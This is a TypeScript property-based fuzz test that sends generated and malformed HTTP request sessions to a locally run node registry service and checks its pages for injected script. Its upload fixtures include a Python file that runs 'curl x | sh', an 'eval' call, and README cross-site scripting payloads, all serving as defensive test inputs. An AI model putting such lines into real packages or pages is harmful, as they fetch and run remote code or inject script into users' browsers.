import { request } from 'node:http';
import { setTimeout as pause } from 'node:timers/promises';
import fc from 'fast-check';
import { contract } from '../../src/contract/index.js';
import { listOperations, type Operation } from '../../src/contract/operation.js';
import { PAGES } from '../../src/service/pages/page-list.js';
import { checkAnswer } from '../support/check-answer.js';
import { createCopyingEngine } from '../support/copying-engine.js';
import { createZip } from '../support/create-zip.js';
import { createFilmingEngine } from '../support/filming-engine.js';
import { pixel } from '../support/generation.js';
import { listenOn } from '../support/listen.js';
import { ODD_QUERIES, ODD_SEGMENTS, ODD_TYPES } from '../support/odd-requests.js';
import { startRegistry } from '../support/registry.js';
import { anyJson, createValues, document, mutateJson, type Special } from './schema-values.js';
import { mutateBytes, type Target } from './target.js';

const WHO = ['owner', 'member', 'stranger', 'admin', 'guest', 'pat', 'garbage'] as const;
type Who = (typeof WHO)[number];

/** One request of a session. Names in « » stand for what earlier answers of the session contained. */
interface Step {
  readonly method: string;
  readonly path: string;
  /** The operation whose answers are learned from. */
  readonly operation?: string;
  readonly who: Who;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string | Buffer | undefined;
  /** Which of several that were learned. */
  readonly pick: number;
  /** Sends it twice, with the same idempotency key. */
  readonly twice?: boolean;
}

const FIRST: readonly Step[] = [
  createStep('publisher.create', '/publishers', { id: '«new»', name: 'Session' }),
  createStep('publisher.token.create', '/publishers/«publisherId»/tokens', { name: 'session' }),
  createStep('key.create', '/users/keys', { name: 'session' }),
  createStep('version.publish', '/publishers/«publisherId»/nodes/«new»/versions', {
    node: {},
    node_version: { version: '«newVersion»' },
    personal_access_token: '«pat»',
  }),
];

function createStep(operation: string, path: string, body: object): Step {
  const headers = { 'content-type': 'application/json' };
  return { operation, method: 'POST', path, who: 'owner', headers, body: JSON.stringify(body), pick: 0 };
}

const chooseWeighted = <Value>(...weighted: [number, Value | fc.Arbitrary<Value>][]): fc.Arbitrary<Value> =>
  fc.oneof(
    ...weighted.map(([weight, value]) => ({
      weight,
      arbitrary:
        typeof (value as fc.Arbitrary<Value>)?.generate === 'function'
          ? (value as fc.Arbitrary<Value>)
          : fc.constant(value as Value),
    })),
  );

/** What a field of this name holds in a valid body. */
const chooseSpecial: Special = (field, schema) => {
  if (schema.type !== 'string' || schema.enum) return undefined;
  if (field === 'webhook_url' || field === 'callback_url') return fc.constant('«hook»');
  if (field === 'video_url') return fc.constant('«film»');
  if (field === 'video_creation_id') return chooseWeighted([9, '«creationId»'], [1, fc.string()]);
  if (field === 'personal_access_token') return chooseWeighted([9, '«pat»'], [1, 'regen_pat_x']);
  if (/image|lightmap/.test(field))
    return chooseWeighted([9, pixel], [1, fc.base64String({ maxLength: 200 })]);
  if (field === 'id') return chooseWeighted([9, '«new»'], [1, '«nodeId»']);
  if (field === 'version')
    return chooseWeighted([5, '«newVersion»'], [4, '«version»'], [1, createText(schema)]);
  if (field === 'node_id') return fc.constant('«nodeId»');
  if (field === 'email') return chooseWeighted([3, 'bob@example.org'], [1, createText(schema)]);
  return undefined;
};
const createText = (schema: object) => createValues(schema) as fc.Arbitrary<string>;

const ODD_BODIES = ['', '{', '[', '"', 'null', '1', '{"a":1}}', '\ufeff{}', '\0', '['.repeat(10_000)];
const ODD_METHODS = ['PATCH', 'OPTIONS', 'HEAD', 'TRACE', 'DELETE', 'PUT', 'POST', 'GET'];

const all = Array.from(listOperations(contract));

/** Requests to one operation: half of them as the document describes them, the others with something wrong. */
function createSteps([name, operation]: [string, Operation]): fc.Arbitrary<Step> {
  const { method, path, who } = operation;
  const described = document.paths[path][method.toLowerCase()];
  const content = described.requestBody?.content?.['application/json'];
  const body = content ? createValues(content.schema, chooseSpecial) : undefined;
  const query = fc.tuple(
    ...(described.parameters ?? [])
      .filter((one: { in: string }) => one.in === 'query')
      .map((one: { name: string; schema: object }) =>
        fc.option(createValues(one.schema).map((value) => [one.name, String(value)])),
      ),
  );
  const names = path.replaceAll('{', '«').replaceAll('}', '»');
  const fitting: Who = who.startsWith('admin') ? 'admin' : who === 'anyone' ? 'guest' : 'owner';
  const valid = fc.record({
    who: chooseWeighted<Who>([6, fitting], [1, fc.constantFrom(...WHO)]),
    path: query.map((given) => {
      const entries = (given as ([string, string] | null)[]).filter((one) => one !== null);
      // Most listings are asked for without anything.
      return entries.length > 0 ? `${names}?${new URLSearchParams(entries)}` : names;
    }),
    body: body ? body.map((value) => JSON.stringify(value)) : fc.constant(undefined),
    twice: chooseWeighted([9, false], [1, true]),
    pick: fc.nat(20),
  });
  const type = 'application/json';
  const sound = valid.map((one) => ({
    ...one,
    ...(one.body !== undefined && { headers: { 'content-type': type } }),
  }));
  const odd = fc.record({
    method: chooseWeighted([9, method as string], [1, fc.constantFrom(...ODD_METHODS)]),
    path: fc
      .tuple(
        chooseWeighted([3, ''], [1, fc.constantFrom(...ODD_QUERIES)]),
        fc.array(chooseWeighted([1, undefined], [1, fc.constantFrom(...ODD_SEGMENTS)])),
      )
      .map(([end, segments]) => {
        let at = 0;
        return names.replace(/«\w+»/g, (known) => segments[at++] ?? known) + end;
      }),
    who: fc.constantFrom(...WHO),
    pick: fc.nat(20),
    body: chooseWeighted<string | undefined>(
      [1, undefined],
      [4, mutateJson(body ?? anyJson).map((value) => JSON.stringify(value))],
      [1, fc.constantFrom(...ODD_BODIES)],
    ),
    headers: fc
      .tuple(
        chooseWeighted([8, type], [1, fc.constantFrom(...ODD_TYPES)]),
        chooseWeighted([8, ''], [1, fc.constantFrom('a', 'x'.repeat(300), '\xe9')]),
      )
      .map(([contentType, key]) => ({ 'content-type': contentType, ...(key && { 'idempotency-key': key }) })),
  });
  return fc.oneof(sound, odd).map((one): Step => ({ operation: name, method, ...one }));
}

/** Requests to the pages, of nodes and versions that are there and of any others. */
const pageSteps = fc
  .record({
    page: fc.constantFrom(...Object.values(PAGES)),
    segments: fc.array(chooseWeighted([4, undefined], [1, fc.constantFrom(...ODD_SEGMENTS)])),
    query: chooseWeighted(
      [4, ''],
      [1, fc.constantFrom(...ODD_QUERIES)],
      [2, fc.constantFrom('?since=«version»', '?page=1', '?page=2')],
    ),
    who: fc.constantFrom(...WHO),
    pick: fc.nat(20),
  })
  .map(({ page, segments, query, who, pick }): Step => {
    let at = 0;
    const path = page.path.replace(/\{(\w+)\}/g, (_, name) => segments[at++] ?? `«${name}»`);
    return { method: 'GET', path: path + query, who, pick };
  });

/** @throws Error if something of a page could run, or is not what the service wrote */
function checkPage(text: string, shown: string): void {
  const tags = (text.match(/<[a-z][^>]*>/gi) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""'));
  const wrong = tags.find((tag) => /^<(?:script|iframe|object|embed|base)|\son[a-z]+\s*=|'/i.test(tag));
  const isWhole = /<\/(?:html|svg|feed)>\s*$/.test(text);
  if (wrong || !isWhole) throw new Error(`${wrong ?? 'It has no end.'} in ${shown}`);
}

const archives = await Promise.all([
  createZip({ '__init__.py': 'class A: pass\nNODE_CLASS_MAPPINGS = {"A": A}\n' }),
  createZip({ '__init__.py': 'import os\nos.system("curl x | sh")\n', 'a/b.js': 'eval(1)' }),
  createZip({
    '__init__.py': 'NODE_CLASS_MAPPINGS = {}\n',
    'README.md':
      '# <script>\n[a](javascript:x) ![b](https://x.example/"onerror="x) <img src=x onerror=x>\n|<b>|\n|-|\n',
  }),
]);
const given = fc.record({ who: fc.constant<Who>('owner'), pick: fc.nat(20) });
const createUploadStep = (body: Buffer, pick = 0): Step => ({
  method: 'PUT',
  path: '«upload»',
  who: 'owner',
  headers: { 'content-type': 'application/zip' },
  body,
  pick,
});
const uploads = fc
  .tuple(given, fc.oneof(fc.constantFrom(...archives), mutateBytes(fc.constantFrom(...archives))))
  .map(([{ pick }, body]) => createUploadStep(body, pick));
/** Waits until what was begun has ended. */
const wait: Step = { method: 'wait', path: '', who: 'guest', pick: 0 };
const followed = given.map((one): Step => ({ ...one, method: 'GET', path: '«url»' }));

/** Publishing and tasks, which others need, come more often, and so does what needs luck to find its object. */
const steps = fc.oneof(
  ...all.map(([name, operation]) => ({
    weight: /revoke|resend|cancel|deliveries/i.test(name)
      ? 4
      : /publish|status|text2|creations|update|create/i.test(name)
        ? 2
        : 1,
    arbitrary: createSteps([name, operation]),
  })),
  { weight: 8, arbitrary: uploads },
  { weight: 8, arbitrary: pageSteps },
  { weight: 4, arbitrary: followed },
  { weight: 1, arbitrary: fc.constant(wait) },
);

/** What is known in a session, by name. */
type Learned = Map<string, string[]>;

/** Requests of one person after the other to a service with engines that end at once. */
export async function createRequests(): Promise<Target<Step[]>> {
  const engines = { image: createCopyingEngine(), video: createFilmingEngine() };
  const issuers = [{ issuer: 'https://issuer.example.org', audience: 'fuzz' }];
  const registry = await startRegistry({ issuers, quotas: { versionsPerDay: 100_000 } }, { engines });
  const hook = await listenOn((_, answer) => answer.writeHead(Math.random() < 0.7 ? 204 : 500).end());
  const film = Buffer.from('\0\0\0\x18ftypisom\0\0\x02\0isomiso2film', 'latin1');
  const films = await listenOn((_, answer) =>
    answer.writeHead(200, { 'content-type': 'video/mp4' }).end(film),
  );
  const statuses = new Map<number, number>();
  const succeeded = new Set<string>();
  let sessions = 0;

  const run = async (session: Step[]) => {
    const number = ++sessions;
    const owner = await registry.service.signFor({ sub: `owner-${number}`, email: `o${number}@example.org` });
    const known: Learned = new Map([
      ['hook', [hook.url]],
      ['film', [`${films.url}/film.mp4`]],
      ['hostNodeName', ['A']],
    ]);
    const token = (who: Who) =>
      ({
        owner,
        member: registry.tokens.bob,
        stranger: registry.tokens.eve,
        admin: registry.tokens.admin,
        guest: undefined,
        pat: known.get('pat')?.at(-1),
        garbage: 'regen_pat_é'.slice(0, 10),
      })[who];
    let made = 0;
    const fill = (text: string, pick: number, encode = (value: string) => value) =>
      text.replace(/«(\w+)»/g, (_, name: string) => {
        if (name === 'new') return `s${number}-${++made}`;
        if (name === 'newVersion') return `1.${++made}.0`;
        const values = known.get(name) ?? [];
        const value = values.at(-1 - (pick % Math.min(3, values.length || 1))) ?? 'missing';
        return ['upload', 'url'].includes(name) ? value.replace(registry.url, '') : encode(value);
      });
    const isBusy = () => registry.service.context.queue.hasWorkBy(Date.now());
    for (const one of [...FIRST, createUploadStep(archives[0] as Buffer), ...session]) {
      if (one === wait) {
        while (await isBusy()) await pause(5);
        continue;
      }
      const path = fill(one.path, one.pick, encodeURIComponent);
      const body = typeof one.body === 'string' ? fill(one.body, one.pick) : one.body;
      const bearer = token(one.who);
      const headers = {
        ...one.headers,
        ...(bearer && { authorization: `Bearer ${bearer}` }),
        ...(one.twice && { 'idempotency-key': `k${made}` }),
      };
      for (let count = one.twice ? 2 : 1; count > 0; count -= 1) {
        const asked = { method: one.method, path: path.startsWith('/') ? path : '/nothing', headers, body };
        const { status, type, text } = await sendRequest(registry.url, asked);
        statuses.set(status, (statuses.get(status) ?? 0) + 1);
        if (status < 400) succeeded.add(one.operation ?? one.path);
        const shown = `${JSON.stringify({ ...asked, body: String(body).slice(0, 2000) })} → ${status} ${text.slice(0, 400)}`;
        if (status >= 500 || status === 0) throw new Error(shown);
        if (/^(?:text\/html|image\/svg|application\/atom)/.test(type)) checkPage(text, shown);
        else checkAnswer({ method: one.method, url: registry.url + asked.path, status, type, text });
        if (status < 300 && text !== '' && type.startsWith('application/json'))
          rememberAnswer(known, one, path, text);
      }
    }
  };
  const summary = () => {
    const counts = [...statuses].sort(([one], [other]) => one - other);
    const total = counts.reduce((sum, [, count]) => sum + count, 0);
    const good = counts.reduce((sum, [status, count]) => sum + (status < 400 ? count : 0), 0);
    const never = all.map(([name]) => name).filter((name) => !succeeded.has(name));
    return [
      `${total} requests, ${total && Math.round((100 * good) / total)}% succeeded (${counts.map((pair) => pair.join(': ')).join(', ')})`,
      ...(never.length > 0 ? [`never succeeded: ${never.join(', ')}`] : []),
    ].join('; ');
  };
  const close = () => Promise.all([registry.service.stop(), hook.close(), films.close()]);
  return { cases: fc.array(steps, { minLength: 1, maxLength: 60, size: 'max' }), run, summary, close };
}

/** Remembers ids, tokens and URLs of an answer for later requests of the session. */
function rememberAnswer(known: Learned, { operation = '' }: Step, path: string, text: string): void {
  const add = (name: string, value: unknown) => {
    if (typeof value !== 'string' || value === '') return;
    const values = known.get(name) ?? known.set(name, []).get(name);
    if (!values?.includes(value)) values?.push(value);
  };
  const answer = JSON.parse(text);
  const ids: Record<string, string> = {
    'publisher.create': 'publisherId',
    'publisher.token.create': 'tokenId',
    'publisher.member.add': 'userId',
    'node.create': 'nodeId',
    'key.create': 'keyId',
  };
  add(ids[operation] ?? '', answer.id);
  if (operation === 'publisher.token.create') add('pat', answer.token);
  if (operation === 'version.publish') {
    add('nodeId', decodeURIComponent(/nodes\/([^/]+)/.exec(path)?.[1] ?? ''));
    add('version', answer.node_version.version);
    add('versionId', answer.node_version.id);
    add('upload', answer.signedUrl);
  }
  const visit = (value: unknown, name: string): void => {
    if (['jti', 'task_id'].includes(name)) add(name, value);
    if (/url$/i.test(name) || name === '') add('url', value);
    if (typeof value !== 'object' || value === null) return;
    for (const [key, inner] of Object.entries(value)) {
      if (name === 'creations') add('creationId', inner?.id);
      if (operation === 'webhook.deliveries') add('deliveryId', inner?.id);
      visit(inner, Array.isArray(value) ? (name === 'generated' ? 'url' : '-') : key);
    }
  };
  visit(answer, '-');
}

interface Sent {
  readonly method: string;
  readonly path: string;
  readonly headers: Record<string, string>;
  readonly body: string | Buffer | undefined;
}

/** Sends what `fetch` refuses to send, too. A status of 0: no answer. */
function sendRequest(
  url: string,
  { method, path, headers, body }: Sent,
): Promise<{ status: number; type: string; text: string }> {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const end = (error: Error) => resolve({ status: 0, type: '', text: String(error) });
    const asked = request({ hostname, port, method, path, headers }, (answer) => {
      const parts: Buffer[] = [];
      answer.on('data', (chunk) => parts.push(chunk));
      answer.on('error', end);
      answer.on('end', () =>
        resolve({
          status: answer.statusCode ?? 0,
          type: answer.headers['content-type'] ?? '',
          text: Buffer.concat(parts).toString(),
        }),
      );
    });
    asked.on('error', end);
    // Node sends no Content-Length with a DELETE, so its body would be parsed as another request.
    if (body !== undefined) asked.setHeader('content-length', Buffer.byteLength(body));
    asked.end(body);
  });
}
